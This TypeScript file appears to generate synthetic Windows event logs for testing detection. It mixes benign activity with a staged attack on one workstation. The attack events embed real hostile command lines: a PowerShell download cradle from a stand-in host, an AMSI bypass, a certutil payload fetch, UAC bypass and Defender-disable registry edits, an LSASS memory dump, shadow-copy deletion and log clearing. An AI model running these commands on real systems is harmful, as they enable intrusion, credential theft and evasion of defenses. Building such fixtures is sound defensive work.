import { Dice, inOrder, iso, repeated, told } from './day.ts';

type Data = Readonly<Record<string, string | number>>;

const sysmon = 'Microsoft-Windows-Sysmon/Operational';
const system32 = 'C:\\Windows\\System32\\';
const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const hosts = ['WS-11', 'WS-12', 'WS-17', 'FS-01'];
const people = ['alice', 'bob', 'carol', 'dave'];

/** As Windows itself has it when XML becomes JSON. */
function nested(channel: string, id: number, data: Data, atMs: number, computer: string): string {
  return JSON.stringify({
    Event: {
      System: {
        Provider: {
          '#attributes': {
            Name: channel === sysmon ? 'Microsoft-Windows-Sysmon' : 'Microsoft-Windows-Security-Auditing',
          },
        },
        EventID: id,
        TimeCreated: { '#attributes': { SystemTime: iso(atMs) } },
        Channel: channel,
        Computer: `${computer}.example.com`,
      },
      EventData: data,
    },
  });
}

/** As most forwarders send it. */
const flat = (channel: string, id: number, data: Data, atMs: number, computer: string) =>
  JSON.stringify({
    '@timestamp': iso(atMs),
    Channel: channel,
    EventID: id,
    Computer: `${computer}.example.com`,
    ...data,
  });

const started = (
  Image: string,
  CommandLine: string,
  ParentImage: string,
  User = 'EXAMPLE\\bob',
): [string, number, Data] => [
  sysmon,
  1,
  { Image, CommandLine, ParentImage, User, IntegrityLevel: User.startsWith('NT ') ? 'System' : 'Medium' },
];
const set = (TargetObject: string, Details: string, Image: string): [string, number, Data] => [
  sysmon,
  13,
  { EventType: 'SetValue', TargetObject, Details, Image },
];

const explorer = 'C:\\Windows\\explorer.exe';
const services = `${system32}services.exe`;
const chrome = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const user = 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104';
const sid = 'S-1-5-21-1004336348-1177238915-682003330-1104';

function ordinary(dice: Dice): [string, number, Data] {
  const person = dice.one(people);
  const home = `C:\\Users\\${person}`;
  return dice.one<[string, number, Data]>([
    started(chrome, `"${chrome}" --type=renderer --lang=en-US`, chrome, `EXAMPLE\\${person}`),
    started(word, `"${word}" /n "${home}\\Documents\\minutes.docx"`, explorer, `EXAMPLE\\${person}`),
    started(
      `${system32}svchost.exe`,
      `${system32}svchost.exe -k netsvcs -p -s Schedule`,
      services,
      'NT AUTHORITY\\SYSTEM',
    ),
    started(
      `${system32}notepad.exe`,
      `"${system32}notepad.exe" ${home}\\Desktop\\todo.txt`,
      explorer,
      `EXAMPLE\\${person}`,
    ),
    started(
      powershell,
      'powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1',
      `${system32}taskeng.exe`,
      'NT AUTHORITY\\SYSTEM',
    ),
    started(
      `${system32}certutil.exe`,
      'certutil.exe -verify C:\\Certs\\web.cer',
      `${system32}cmd.exe`,
      `EXAMPLE\\${person}`,
    ),
    started(`${system32}vssadmin.exe`, 'vssadmin list shadows', `${system32}cmd.exe`, 'NT AUTHORITY\\SYSTEM'),
    [
      sysmon,
      7,
      {
        Image: `${system32}svchost.exe`,
        ImageLoaded: `${system32}kernel32.dll`,
        Signed: 'true',
        Signature: 'Microsoft Windows',
        SignatureStatus: 'Valid',
      },
    ],
    [
      sysmon,
      3,
      {
        Image: chrome,
        Initiated: 'true',
        DestinationIp: `192.0.2.${dice.between(1, 200)}`,
        DestinationPort: 443,
        User: `EXAMPLE\\${person}`,
      },
    ],
    set(
      `${user}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\MRUListEx`,
      'Binary Data',
      explorer,
    ),
    set(
      `${user}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Teams`,
      'C:\\Program Files\\Teams\\Teams.exe --background',
      explorer,
    ),
    [
      'Security',
      4624,
      {
        TargetUserName: person,
        LogonType: dice.one([2, 3, 7]),
        IpAddress: `10.20.0.${dice.between(10, 60)}`,
      },
    ],
    ['Security', 4634, { TargetUserName: person, LogonType: 3 }],
    [
      'Security',
      4769,
      {
        TargetUserName: `${person}@EXAMPLE.COM`,
        ServiceName: 'FS-01$',
        TicketEncryptionType: '0x12',
        Status: '0x0',
        IpAddress: `::ffff:10.20.0.${dice.between(10, 60)}`,
      },
    ],
  ]);
}

/** One afternoon on WS-17: a letter with a macro, a foothold, credentials, then the clean-up. */
const attacks = told<[string, number, Data]>(
  [
    [
      '13:01:12',
      started(
        powershell,
        'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
        word,
      ),
    ],
    [
      '13:01:15',
      started(
        powershell,
        'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"',
        powershell,
      ),
    ],
    [
      '13:01:20',
      [
        'Microsoft-Windows-PowerShell/Operational',
        4104,
        {
          ScriptBlockText:
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        },
      ],
    ],
    [
      '13:02:44',
      started(
        `${system32}certutil.exe`,
        'certutil.exe -urlcache -split -f http://203.0.113.9/u.exe C:\\Users\\Public\\u.exe',
        `${system32}cmd.exe`,
      ),
    ],
    [
      '13:03:01',
      set(
        `${user}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater`,
        'C:\\Users\\Public\\u.exe',
        'C:\\Users\\Public\\u.exe',
      ),
    ],
    [
      '13:04:10',
      set(`${user}_Classes\\ms-settings\\shell\\open\\command\\(Default)`, 'cmd.exe', `${system32}reg.exe`),
    ],
    [
      '13:06:33',
      [
        sysmon,
        3,
        {
          Image: `${system32}regsvr32.exe`,
          Initiated: 'true',
          DestinationIp: '203.0.113.9',
          DestinationPort: 443,
          User: 'EXAMPLE\\bob',
        },
      ],
    ],
    [
      '13:09:50',
      set(
        'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring',
        'DWORD (0x00000001)',
        `${system32}reg.exe`,
      ),
    ],
    [
      '13:12:02',
      [
        sysmon,
        7,
        {
          Image: `${system32}spoolsv.exe`,
          ImageLoaded: 'C:\\Users\\Public\\nightmare.dll',
          Signed: 'false',
          SignatureStatus: 'Unavailable',
        },
      ],
    ],
    [
      '13:14:27',
      started(
        `${system32}rundll32.exe`,
        'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full',
        `${system32}cmd.exe`,
      ),
    ],
    [
      '14:40:06',
      started(`${system32}vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet', `${system32}cmd.exe`),
    ],
    ['14:41:30', started(`${system32}wevtutil.exe`, 'wevtutil cl Security', `${system32}cmd.exe`)],
  ],
  ([channel, id, data], atMs) => (id === 13 || id === 7 ? nested : flat)(channel, id, data, atMs, 'WS-17'),
);
/** The same machine tries one password on many accounts, then asks for tickets it can crack at leisure. */
const spray = repeated('13:30:00', 9, 45, (index, atMs) =>
  nested(
    'Security',
    4625,
    {
      TargetUserName: `user${index}`,
      LogonType: 3,
      Status: '0xC000006D',
      SubStatus: '0xC000006A',
      IpAddress: '10.20.0.117',
    },
    atMs,
    'FS-01',
  ),
);
const tickets = repeated('13:50:00', 6, 2, (index, atMs) =>
  flat(
    'Security',
    4769,
    {
      TargetUserName: 'bob@EXAMPLE.COM',
      ServiceName: `svc-${index}`,
      TicketEncryptionType: '0x17',
      Status: '0x0',
      TargetSid: sid,
      IpAddress: '10.20.0.117',
    },
    atMs,
    'DC-01',
  ),
);

export function windowsEvents(): string {
  const dice = new Dice(5);
  const bulk = dice.scattered(40, (atMs) =>
    dice.one([nested, flat])(...ordinary(dice), atMs, dice.one(hosts)),
  );
  return inOrder(bulk, attacks, spray, tickets);
}
